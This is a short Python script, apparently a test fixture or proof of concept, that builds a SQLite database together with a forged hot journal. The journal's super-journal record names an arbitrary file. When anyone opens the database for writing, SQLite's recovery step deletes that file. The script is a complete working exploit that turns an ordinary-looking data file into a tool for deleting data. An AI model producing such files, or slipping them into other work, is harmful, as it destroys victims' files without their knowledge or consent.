"""A database that makes SQLite delete a file of whoever opens it for writing."""

import sqlite3
import struct
from contextlib import closing
from pathlib import Path


def interrupted(path: Path, doomed: Path) -> None:
    """A database with a hot journal that names a file, which SQLite deletes as the super-journal of the transaction."""
    with closing(sqlite3.connect(path)) as connection:
        connection.execute("CREATE TABLE t (a)")
        connection.commit()
    magic, name = bytes.fromhex("d9d505f920a163d7"), str(doomed).encode()
    journal = (magic + struct.pack(">IIIII", 0, 1, path.stat().st_size // 4096, 512, 4096)).ljust(512, b"\0")
    journal += struct.pack(">I", 0x40000000 // 4096 + 1) + name
    path.with_name(f"{path.name}-journal").write_bytes(
        journal + struct.pack(">II", len(name), sum(name)) + magic
    )
